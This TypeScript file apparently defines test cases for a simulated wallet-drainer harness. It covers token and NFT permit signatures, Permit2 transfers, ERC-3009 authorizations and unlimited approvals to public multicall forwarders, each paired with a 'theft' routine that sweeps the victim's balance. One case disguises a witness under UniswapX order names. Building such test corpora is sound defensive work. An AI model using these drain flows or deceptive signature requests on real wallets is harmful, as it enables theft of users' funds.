import { encodeAbiParameters, keccak256, toHex } from 'viem';
import { readArtifact } from '../artifact.ts';
import type { Case } from '../Case.ts';
import { signature, transaction } from './attack.ts';
import { type Deployed, FAR_SECONDS, type Heist, NO_LIMIT } from './Heist.ts';
import { approveCall, pullBy, submitPermit, transferBy } from './permit2.ts';
import {
  clone,
  eoa,
  forwarder,
  multicall,
  open,
  proxy,
  pull,
  pullItems,
  raw,
  rawCommand,
  type Spender,
  split as splitSpender,
  unborn,
  vault,
  workers,
} from './spenders.ts';
import {
  AUTHORIZATION_NONCE,
  authorization,
  permit2612,
  permit4494,
  permitBatch,
  permitDai,
  permitForAll,
  permitSingle,
  permitTransfer,
  useDai,
  usePermit,
  type Witness,
} from './typed.ts';

/** The contract of 0x5BA1e126, published with Uniswap V3's periphery; and the two multicalls of the same kind. */
const uniswapMulticall = forwarder(
  'uniswap-multicall',
  'Uniswap V3’s interface multicall at 0x5BA1e126: any call for anyone',
  'incident of 2024: drainers used 0x5BA1e12693Dc8F9c48aAD8770482f4739bEeD696 as spender',
  async (heist) => {
    const path = '@uniswap/v3-periphery/artifacts/contracts/lens/UniswapInterfaceMulticall.sol';
    const artifact = readArtifact(`${path}/UniswapInterfaceMulticall.json`);
    const address = await heist.world.deployAt('0x5BA1e12693Dc8F9c48aAD8770482f4739bEeD696', artifact);
    return { address, abi: artifact.abi };
  },
);
const multicall3 = forwarder(
  'multicall3',
  'Multicall3 at its own address: any call for anyone',
  'mds1/multicall3; allowances left with it were swept within blocks',
  async (heist) => atAddress(heist, '0xcA11bde05977b3631167028862bE2a173976CA11'),
);
const freshMulticall = forwarder(
  'fresh-forwarder',
  'a public call forwarder at an address no list has',
  'copies of Multicall3 deployed by drainers',
  (heist) => heist.thiefs('FreshForwarder'),
);

async function atAddress(heist: Heist, address: `0x${string}`): Promise<Deployed> {
  const { abi } = await heist.honest('FreshForwarder');
  return heist.world.once(`attack at ${address}`, async () => {
    const from = await heist.honest('FreshForwarder');
    await heist.world.rpc('anvil_setCode', [address, await heist.world.rpc('eth_getCode', [from.address, 'latest'])]);
    return { address, abi };
  });
}

/** B: power over tokens given by signature. */
export const PERMITS: readonly Case[] = [
  ...[eoa, pull, workers, multicall, splitSpender, raw, rawCommand, vault, proxy, clone].map((spender) =>
    permit('B1', spender),
  ),
  permit('A5', unborn),
  permit('B6', open),
  permit('B6', uniswapMulticall),
  permit('B6', multicall3),
  permit('B6', freshMulticall),
  signature(
    {
      id: 'b1-permit-v3',
      family: 'B1',
      shape: 'ERC-2612 Permit asked by eth_signTypedData_v3',
      provenance: 'the $6.5 M permit of Sept 2025 (ScamSniffer 2025 report), by the older method',
    },
    async (heist) => ({ ...(await permitPlan(heist, eoa)), method: 'eth_signTypedData_v3' }),
  ),
  signature(
    {
      id: 'b1-permit-exact',
      family: 'B1',
      shape: 'ERC-2612 Permit of exactly the whole balance, deadline in an hour',
      provenance: 'the $6.5 M permit of Sept 2025 (ScamSniffer 2025 report): aEthWBTC and stETH by Permit',
    },
    async (heist) => {
      const coin = await heist.coin();
      const value = await heist.balance(coin)();
      const deadline = (await heist.world.nowSeconds()) + 3600n;
      const typed = await permit2612(heist, coin, heist.thief, value);
      return {
        typed: { ...typed, message: { ...typed.message, deadline } },
        stake: heist.balance(coin),
        theft: async (signed) => {
          const { abi } = coin;
          const [v, r, s] = splitSignature(signed);
          await heist.send(heist.thief, { ...coin, abi }, 'permit', [
            heist.user,
            heist.thief,
            value,
            deadline,
            v,
            r,
            s,
          ]);
          await (await eoa.open(heist)).take(coin, value);
        },
      };
    },
  ),
  ...[eoa, pull, multicall].map((spender) => dai('B2', spender, 0n)),
  dai('B2', workers, FAR_SECONDS),
  dai('A5', unborn, 0n),
  ...[eoa, multicall].flatMap((spender) => [single('B3', spender), batch('B3', spender)]),
  single('A5', unborn),
  single('B6', multicall3),
  ...[eoa, multicall].flatMap((spender) => [
    transfer(spender, false),
    transfer(spender, true),
    witnessed(spender, false),
  ]),
  witnessed(eoa, true),
  authorized('TransferWithAuthorization', eoa),
  authorized('ReceiveWithAuthorization', eoa),
  signature(
    {
      id: 'b5-receive-contract',
      family: 'B5',
      shape: 'ReceiveWithAuthorization → a drainer contract that hands it in itself',
      provenance: 'ERC-3009 (USDC); drainers of 2024',
    },
    async (heist) => {
      const coin = await heist.coinOf('CheckoutCoin', 5_000_000_000n);
      const drainer = await multicall.open(heist);
      const value = await heist.balance(coin)();
      return {
        typed: authorization(heist, coin, drainer.address, value, 'ReceiveWithAuthorization'),
        stake: heist.balance(coin),
        theft: async (signed) =>
          drainer.act?.([
            heist.encode(coin, 'receiveWithAuthorization', [
              heist.user,
              drainer.address,
              value,
              0n,
              FAR_SECONDS,
              AUTHORIZATION_NONCE,
              signed,
            ]),
          ]),
      };
    },
  ),
  ...[eoa, pullItems].map((spender) => item(spender)),
  ...[eoa, pullItems].map((spender) => everyItem(spender)),
  ...[uniswapMulticall, multicall3, freshMulticall].map((spender) => approveForwarder(spender)),
  transaction(
    {
      id: 'b6-operator-multicall3',
      family: 'B6',
      shape: 'setApprovalForAll → Multicall3',
      provenance: 'mds1/multicall3, "do not approve this contract"',
    },
    async (heist) => {
      const art = await heist.art();
      const spender = await multicall3.open(heist);
      return {
        call: heist.encode(art, 'setApprovalForAll', [spender.address, true]),
        stake: heist.balance(art),
        theft: () => spender.take(art, art.ids[0] ?? 0n),
      };
    },
  ),
  transaction(
    {
      id: 'b6-permit2-approve-forwarder',
      family: 'B6',
      shape: 'Permit2 approve on chain → Multicall3',
      provenance: 'Uniswap Permit2 with a public forwarder as spender',
    },
    async (heist) => {
      const coin = await heist.coin();
      await heist.approvedPermit2(coin);
      const spender = await multicall3.open(heist);
      return {
        call: approveCall(heist, coin, spender.address),
        stake: heist.balance(coin),
        theft: async () => pullBy(heist, spender, coin, await heist.balance(coin)()),
      };
    },
  ),
];

function splitSignature(signed: `0x${string}`): readonly [number, `0x${string}`, `0x${string}`] {
  return [Number(`0x${signed.slice(130)}`), `0x${signed.slice(2, 66)}`, `0x${signed.slice(66, 130)}`];
}

async function permitPlan(heist: Heist, spender: Spender) {
  const coin = await heist.coin();
  const opened = await spender.open(heist);
  return {
    typed: await permit2612(heist, coin, opened.address),
    stake: heist.balance(coin),
    theft: async (signed: `0x${string}`) => {
      await usePermit(heist, coin, opened.address, signed);
      await opened.take(coin, await heist.balance(coin)());
    },
  };
}

function permit(family: string, spender: Spender): Case {
  const about = {
    id: `${family.toLowerCase()}-permit-${spender.name}`,
    family,
    shape: `ERC-2612 Permit, no limit → ${spender.code}`,
    provenance: family === 'B1' ? 'PTXPhish (NDSS 2025), category ERC-20 permit' : spender.provenance,
  };
  return signature(about, (heist) => permitPlan(heist, spender));
}

function dai(family: string, spender: Spender, expiry: bigint): Case {
  const about = {
    id: `${family.toLowerCase()}-dai-${spender.name}`,
    family,
    shape: `DAI Permit, expiry ${expiry === 0n ? '0 (never)' : 'far away'} → ${spender.code}`,
    provenance: 'DAI permit (makerdao/dss Dai.sol)',
  };
  return signature(about, async (heist) => {
    const coin = await heist.coinOf('OldPermitCoin');
    const opened = await spender.open(heist);
    return {
      typed: permitDai(heist, coin, opened.address, expiry),
      stake: heist.balance(coin),
      theft: async (signed) => {
        await useDai(heist, coin, opened.address, signed, expiry);
        await opened.take(coin, await heist.balance(coin)());
      },
    };
  });
}

function single(family: string, spender: Spender): Case {
  const about = {
    id: `${family.toLowerCase()}-permit-single-${spender.name}`,
    family,
    shape: `Permit2 PermitSingle → ${spender.code}`,
    provenance: 'Uniswap Permit2, AllowanceTransfer; Permit2 thefts of 2023-2025',
  };
  return signature(about, async (heist) => {
    const coin = await heist.coin();
    await heist.approvedPermit2(coin);
    const opened = await spender.open(heist);
    const typed = permitSingle(heist, coin, opened.address);
    return {
      typed,
      stake: heist.balance(coin),
      theft: async (signed) => {
        await submitPermit(heist, typed.message, signed, false);
        await pullBy(heist, opened, coin, await heist.balance(coin)());
      },
    };
  });
}

function batch(family: string, spender: Spender): Case {
  const about = {
    id: `${family.toLowerCase()}-permit-batch-${spender.name}`,
    family,
    shape: `Permit2 PermitBatch of the portfolio → ${spender.code}`,
    provenance: 'Uniswap Permit2, AllowanceTransfer; Inferno Drainer asked for the whole portfolio',
  };
  return signature(about, async (heist) => {
    const coins = [await heist.coin(), await heist.otherCoin()] as const;
    for (const coin of coins) await heist.approvedPermit2(coin);
    const opened = await spender.open(heist);
    const typed = permitBatch(heist, coins, opened.address);
    return {
      typed,
      stake: heist.balance(coins[1]),
      theft: async (signed) => {
        await submitPermit(heist, typed.message, signed, true);
        for (const coin of coins) await pullBy(heist, opened, coin, await heist.balance(coin)());
      },
    };
  });
}

async function permitted(heist: Heist, isBatch: boolean) {
  const coins = isBatch ? [await heist.coin(), await heist.otherCoin()] : [await heist.coin()];
  for (const coin of coins) await heist.approvedPermit2(coin);
  return Promise.all(coins.map(async (coin) => ({ token: coin.address, amount: await heist.balance(coin)() })));
}

function transfer(spender: Spender, isBatch: boolean): Case {
  const about = {
    id: `b4-${isBatch ? 'batch-' : ''}transfer-${spender.name}`,
    family: 'B4',
    shape: `Permit2 Permit${isBatch ? 'Batch' : ''}TransferFrom → ${spender.code}`,
    provenance: 'Uniswap Permit2, SignatureTransfer: spendable at once',
  };
  return signature(about, async (heist) => {
    const list = await permitted(heist, isBatch);
    const opened = await spender.open(heist);
    const coin = await heist.coin(0n);
    return {
      typed: permitTransfer(heist, list, opened.address, { batch: isBatch }),
      stake: heist.balance(coin),
      theft: (signed) => transferBy(heist, opened, { permitted: list, signature: signed, batch: isBatch }),
    };
  });
}

/** Looks like UniswapX's order to who reads the names only. */
const ORDER_WITNESS = (heist: Heist): Witness => ({
  name: 'ExclusiveDutchOrder',
  fields: [
    { name: 'reactor', type: 'address' },
    { name: 'swapper', type: 'address' },
    { name: 'inputAmount', type: 'uint256' },
  ],
  value: { reactor: heist.thief, swapper: heist.user, inputAmount: 1n },
});
const WITNESS_TYPE = 'ExclusiveDutchOrder(address reactor,address swapper,uint256 inputAmount)';

function witnessed(spender: Spender, isBatch: boolean): Case {
  const about = {
    id: `b4-${isBatch ? 'batch-' : ''}witness-${spender.name}`,
    family: 'B4',
    shape: `Permit2 Permit${isBatch ? 'Batch' : ''}WitnessTransferFrom with a borrowed order name → ${spender.code}`,
    provenance: 'Uniswap Permit2, SignatureTransfer with witness; UniswapX names',
  };
  return signature(about, async (heist) => {
    const list = await permitted(heist, isBatch);
    const opened = await spender.open(heist);
    const coin = await heist.coin(0n);
    const witness = ORDER_WITNESS(heist);
    const hash = keccak256(
      encodeAbiParameters(
        [{ type: 'bytes32' }, { type: 'address' }, { type: 'address' }, { type: 'uint256' }],
        [keccak256(toHex(WITNESS_TYPE)), heist.thief, heist.user, 1n],
      ),
    );
    const typeString = `ExclusiveDutchOrder witness)${WITNESS_TYPE}TokenPermissions(address token,uint256 amount)`;
    return {
      typed: permitTransfer(heist, list, opened.address, { batch: isBatch, witness }),
      stake: heist.balance(coin),
      theft: (signed) =>
        transferBy(heist, opened, {
          permitted: list,
          signature: signed,
          batch: isBatch,
          witness: { hash, typeString },
        }),
    };
  });
}

function authorized(primaryType: 'TransferWithAuthorization' | 'ReceiveWithAuthorization', spender: Spender): Case {
  const about = {
    id: `b5-${primaryType === 'TransferWithAuthorization' ? 'transfer' : 'receive'}-${spender.name}`,
    family: 'B5',
    shape: `${primaryType} of the whole balance → ${spender.code}`,
    provenance: 'ERC-3009 (USDC); drainers of 2024',
  };
  return signature(about, async (heist) => {
    const coin = await heist.coinOf('CheckoutCoin', 5_000_000_000n);
    const { address } = await spender.open(heist);
    const value = await heist.balance(coin)();
    const name = `${primaryType.charAt(0).toLowerCase()}${primaryType.slice(1)}`;
    return {
      typed: authorization(heist, coin, address, value, primaryType),
      stake: heist.balance(coin),
      theft: (signed) =>
        heist.send(address, coin, name, [heist.user, address, value, 0n, FAR_SECONDS, AUTHORIZATION_NONCE, signed]),
    };
  });
}

function item(spender: Spender): Case {
  const about = {
    id: `b5-item-permit-${spender.name}`,
    family: 'B5',
    shape: `ERC-4494 Permit of one item → ${spender.code}`,
    provenance: 'ERC-4494; Uniswap V3 positions have the same permit',
  };
  return signature(about, async (heist) => {
    const art = await heist.art();
    const [id = 0n] = art.ids;
    const opened = await spender.open(heist);
    return {
      typed: permit4494(heist, art, opened.address, id),
      stake: heist.balance(art),
      theft: async (signed) => {
        await heist.send(heist.thief, art, 'permit', [opened.address, id, FAR_SECONDS, signed]);
        await opened.take(art, id);
      },
    };
  });
}

function everyItem(spender: Spender): Case {
  const about = {
    id: `b5-permit-for-all-${spender.name}`,
    family: 'B5',
    shape: `PermitForAll of a collection → ${spender.code}`,
    provenance: 'setApprovalForAll by signature, as ERC-721 collections of 2022 have it',
  };
  return signature(about, async (heist) => {
    const art = await heist.art();
    const opened = await spender.open(heist);
    return {
      typed: permitForAll(heist, art, opened.address),
      stake: heist.balance(art),
      theft: async (signed) => {
        await heist.send(heist.thief, art, 'permitForAll', [heist.user, opened.address, FAR_SECONDS, signed]);
        await opened.take(art, art.ids[0] ?? 0n);
      },
    };
  });
}

function approveForwarder(spender: Spender): Case {
  const about = {
    id: `b6-approve-${spender.name}`,
    family: 'B6',
    shape: `approve, no limit → ${spender.code}`,
    provenance: spender.provenance,
  };
  return transaction(about, async (heist) => {
    const coin = await heist.coin();
    const opened = await spender.open(heist);
    return {
      call: heist.encode(coin, 'approve', [opened.address, NO_LIMIT]),
      stake: heist.balance(coin),
      theft: async () => opened.take(coin, await heist.balance(coin)()),
    };
  });
}
